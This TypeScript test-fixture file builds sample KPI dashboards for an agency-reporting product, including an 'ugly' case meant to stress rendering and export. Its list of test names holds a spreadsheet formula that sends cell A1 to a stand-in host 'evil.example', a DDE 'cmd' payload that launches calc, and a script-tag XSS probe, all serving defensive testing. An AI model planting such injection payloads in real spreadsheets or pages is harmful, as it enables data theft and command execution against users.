import type { KpiDashboard } from '@retainer/core';

import {
  ANNOTATION_ID,
  NO_GOALS,
  nothingToTell,
  someAnnotations,
  someGoals,
  someInsights,
  tierCount,
} from './dashboard-insights.ts';

type Count = KpiDashboard['performance']['impressions'];
type Amount = KpiDashboard['performance']['revenue'];
type Decimal = KpiDashboard['performance']['averageRoi'];
type Highlight = KpiDashboard['campaigns']['highlights'][number];

const NO_CHANGE = { change: null, changePercent: null, trend: 'no_data', good: null } as const;

/** An agency as there are many: most went well, one thing did not, and not everything is known. */
export function goodDashboard(): KpiDashboard {
  return {
    agencyWorkspaceId: 'harbor-and-pine',
    timeZone: 'Europe/Berlin',
    currency: 'USD',
    period: {
      startDate: '2026-09-01',
      endDate: '2026-09-30',
      days: 30,
      elapsedDays: 30,
      complete: true,
      countedUntil: '2026-09-30',
    },
    comparison: {
      compareTo: 'previous_period',
      startDate: '2026-08-01',
      endDate: '2026-08-31',
      days: 31,
      clamped: false,
    },
    performance: {
      impressions: {
        ...count(184_230, 151_004, '22.0034'),
        perDay: { changePercent: '26.0702', trend: 'up', good: true },
      },
      engagement: count(9120, 9050, '0.7735', STABLE),
      leads: count(86, 72, '19.4444'),
      conversions: count(19, 22, '-13.6364', { trend: 'down', good: false }),
      revenue: amount('9480.00', '7320.50', '2159.50', '29.4993'),
      averageRoi: decimal('1.847500', '1.711000', '0.136500'),
    },
    contentVelocity: {
      posts: count(45, 41, '9.7561'),
      content: count(52, 50, '4.0000', STABLE),
      postsPerDay: { ...decimal('1.500000', '1.322581', '0.177419'), changePercent: '13.4146' },
      contentPerDay: { ...decimal('1.733333', '1.612903', '0.120430'), changePercent: '7.4667' },
    },
    clients: {
      total: count(12, 11, '9.0909'),
      active: count(10, 9, '11.1111'),
      activeAnyDay: count(11, 10, '10.0000'),
      withActivity: count(9, 9, '0.0000', STABLE),
      byTier: [
        { tier: 'bronze', name: 'Bronze', clients: 4, ...tierCount(4, 5) },
        { tier: 'silver', name: 'Silver', clients: 5, ...tierCount(5, 3) },
        { tier: 'gold', name: 'Gold', clients: 1, ...tierCount(1, 1) },
      ],
    },
    campaigns: {
      active: count(6, 5, '20.0000'),
      roiPercent: decimal('212.4000', '180.1000', '32.3000'),
      highlights: [
        highlight('Autumn menu', ['corner-bakery', '420.00', '2140.00', '409.5238']),
        highlight('Off-season weekends', ['lakeside-hotel', '2400.00', '7300.00', '204.1667']),
        highlight('New Year passes', ['tidal-gym', '840.00', '1180.00', '40.4762']),
      ],
    },
    roi: {
      totalCost: amount('3105.67', '2740.10', '365.57', '13.3415', { trend: 'up', good: false }),
      totalValue: amount('9480.00', '7320.50', '2159.50', '29.4993'),
      netValue: amount('6374.33', '4580.40', '1793.93', '39.1654'),
      roiPercent: { ...decimal('205.2472', '167.1618', '38.0854'), changePercent: null },
      trend: months('USD', 12),
    },
    insights: someInsights({
      fee: amount('11988.00', '10989.00', '999.00', '9.0909'),
      cost: amount('1905.67', '1740.10', '165.57', '9.5150', { trend: 'up', good: false }),
      kept: amount('10082.33', '9248.90', '833.43', '9.0111'),
      marginPercent: { ...decimal('84.1035', '84.1651', '-0.0616'), ...STABLE },
    }),
    goals: someGoals(),
    annotations: someAnnotations(),
    coverage: { posts: 45, measuredPosts: 41, clients: 12, withValue: 10 },
    freshness: { metricsUntil: '2026-09-30', clientsWithMetrics: 9, clientsBehind: 2 },
    asOf: new Date('2026-10-01T07:15:00Z'),
  };
}

/** Everything that may look bad at once: names that are long, hostile or of other scripts, three decimals, and holes. */
export function uglyDashboard(): KpiDashboard {
  const good = goodDashboard();
  const missing = { ...NO_CHANGE, current: null, previous: null, reason: 'missing_data' } as const;
  const unknown = (reason: 'missing_data' | 'missing_rate', knownAmount?: string): Amount => ({
    ...NO_CHANGE,
    current: { amount: null, currency: 'KWD', reason, ...(knownAmount && { knownAmount }) },
    previous: null,
    reason,
  });
  const names = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    '+1-800 @SUM(A1:A9)|cmd|’/C calc’!A0',
    'שיווק דיגיטלי (סתיו) 2026',
    'حملة الخريف للمطاعم والفنادق',
    'Донаудампфшиффартс-электрицитетен Έρευνα αγοράς',
    '東京オリンピック 秋のキャンペーン 🎉',
    'Supercalifragilisticexpialidocious'.repeat(5),
    '<script>alert("x")</script> & "quotes" \'single\'',
    'भारतीय त्योहार ภาษาไทย',
    '-2+3\uFFFE',
  ];
  return {
    ...good,
    agencyWorkspaceId: '=cmd|agency',
    timeZone: 'Asia/Kuwait',
    currency: 'KWD',
    comparison: null,
    performance: {
      ...good.performance,
      impressions: { ...NO_CHANGE, current: 9_007_199_254, previous: null },
      engagement: missing,
      leads: { ...NO_CHANGE, current: 0, previous: null },
      conversions: missing,
      revenue: unknown('missing_rate', '1234567890.123'),
      averageRoi: { ...NO_CHANGE, current: null, previous: null, reason: 'zero_denominator' },
    },
    contentVelocity: {
      posts: { ...NO_CHANGE, current: 45, previous: null },
      content: { ...NO_CHANGE, current: 0, previous: null },
      postsPerDay: { ...NO_CHANGE, current: '1.500000', previous: null },
      contentPerDay: { ...NO_CHANGE, current: '0.000000', previous: null },
    },
    clients: {
      total: { ...NO_CHANGE, current: 45, previous: null },
      active: { ...NO_CHANGE, current: 45, previous: null },
      activeAnyDay: { ...NO_CHANGE, current: 45, previous: null },
      withActivity: { ...NO_CHANGE, current: 0, previous: null },
      byTier: names.map((name, index) => ({
        tier: `tier-${index}`,
        name,
        clients: index,
        ...tierCount(index, undefined),
      })),
    },
    campaigns: {
      active: { ...NO_CHANGE, current: 10, previous: null },
      roiPercent: { ...NO_CHANGE, current: null, previous: null, reason: 'zero_denominator' },
      highlights: names.map((name, index) => ({
        campaignId: `=campaign ${index}`,
        clientWorkspaceId: index % 2 === 0 ? 'עסק קטן' : 'a-client-with-a-very-long-id-'.repeat(4),
        name,
        cost: { amount: `${10 ** index}.001`, currency: 'KWD' },
        value: { amount: `-${10 ** (9 - index)}.999`, currency: 'KWD' },
        roiPercent: { value: String(12_345.6789 - index * 2000), reason: null },
      })),
    },
    roi: {
      totalCost: { ...NO_CHANGE, current: { amount: '0.005', currency: 'KWD' }, previous: null },
      totalValue: unknown('missing_rate', '0.001'),
      netValue: unknown('missing_rate'),
      roiPercent: { ...NO_CHANGE, current: null, previous: null, reason: 'missing_rate' },
      trend: months('KWD', 4),
    },
    insights: someInsights(
      {
        fee: unknown('missing_rate', '0.001'),
        cost: unknown('missing_rate'),
        kept: unknown('missing_rate'),
        marginPercent: { ...NO_CHANGE, current: null, previous: null, reason: 'missing_rate' },
      },
      names[0],
    ),
    annotations: someAnnotations(names[1]),
    coverage: { posts: 45, measuredPosts: 0, clients: 45, withValue: 0 },
    freshness: { metricsUntil: null, clientsWithMetrics: 0, clientsBehind: 0 },
  };
}

/** The first morning: nothing is over and nothing is known. */
export function emptyDashboard(): KpiDashboard {
  const none: Count = { ...NO_CHANGE, current: null, previous: null, reason: 'no_complete_day' };
  const ratio: Decimal = { ...none, current: null, previous: null, change: null };
  const noAmount: Amount = {
    ...NO_CHANGE,
    current: { amount: null, currency: 'JPY', reason: 'no_complete_day' },
    previous: null,
    reason: 'no_complete_day',
  };
  return {
    agencyWorkspaceId: 'first-day',
    timeZone: 'Asia/Tokyo',
    currency: 'JPY',
    period: {
      startDate: '2026-10-01',
      endDate: '2026-10-31',
      days: 31,
      elapsedDays: 0,
      complete: false,
      countedUntil: null,
    },
    comparison: null,
    performance: {
      impressions: none,
      engagement: none,
      leads: none,
      conversions: none,
      revenue: noAmount,
      averageRoi: ratio,
    },
    contentVelocity: { posts: none, content: none, postsPerDay: ratio, contentPerDay: ratio },
    clients: { total: none, active: none, activeAnyDay: none, withActivity: none, byTier: [] },
    campaigns: { active: none, roiPercent: ratio, highlights: [] },
    insights: nothingToTell(noAmount, ratio),
    goals: NO_GOALS,
    annotations: [],
    roi: {
      totalCost: noAmount,
      totalValue: noAmount,
      netValue: noAmount,
      roiPercent: ratio,
      trend: [],
    },
    coverage: null,
    freshness: { metricsUntil: null, clientsWithMetrics: 0, clientsBehind: 0 },
    asOf: new Date('2026-10-01T00:15:00Z'),
  };
}

type Judged = Pick<Count, 'trend' | 'good'>;
const WELCOME: Judged = { trend: 'up', good: true };
const STABLE: Judged = { trend: 'stable', good: null };

function count(
  current: number,
  previous: number,
  ...[changePercent, judged = WELCOME]: readonly [changePercent: string, judged?: Judged]
): Count {
  return { current, previous, change: current - previous, changePercent, ...judged };
}

function amount(
  current: string,
  previous: string,
  ...[change, changePercent, judged = WELCOME]: readonly [
    change: string,
    changePercent: string,
    judged?: Judged,
  ]
): Amount {
  const money = (text: string) => ({ amount: text, currency: 'USD' });
  return {
    current: money(current),
    previous: money(previous),
    change: money(change),
    changePercent,
    ...judged,
  };
}

function decimal(current: string, previous: string, change: string): Decimal {
  return { current, previous, change, changePercent: null, ...WELCOME };
}

function highlight(
  name: string,
  [clientWorkspaceId, cost, value, roi]: readonly [string, string, string, string],
): Highlight {
  return {
    campaignId: name.toLowerCase().replaceAll(' ', '-'),
    clientWorkspaceId,
    name,
    cost: { amount: cost, currency: 'USD' },
    value: { amount: value, currency: 'USD' },
    roiPercent: { value: roi, reason: null },
  };
}

/** Twelve months up to September 2026, of which the first ones are unknown. */
function months(currency: string, known: number): KpiDashboard['roi']['trend'] {
  const decimals = currency === 'KWD' ? '000' : '00';
  return Array.from({ length: 12 }, (_, index) => {
    const place = 2025 * 12 + 9 + index;
    const month = `${Math.floor(place / 12)}-${String((place % 12) + 1).padStart(2, '0')}`;
    const complete = index < 11;
    if (index < 12 - known) {
      return {
        month,
        complete,
        cost: { amount: null, currency, reason: 'missing_data' },
        value: { amount: null, currency, reason: 'missing_data' },
        roiPercent: { value: null, reason: 'missing_data' },
        annotations: [],
      };
    }
    const cost = 1800 + index * 120;
    const value = 1500 + index * index * 66;
    return {
      month,
      complete,
      cost: { amount: `${cost}.${decimals}`, currency },
      value: { amount: `${value}.${decimals}`, currency },
      roiPercent: { value: (((value - cost) * 100) / cost).toFixed(4), reason: null },
      annotations: month === '2026-09' ? [ANNOTATION_ID] : [],
    };
  });
}
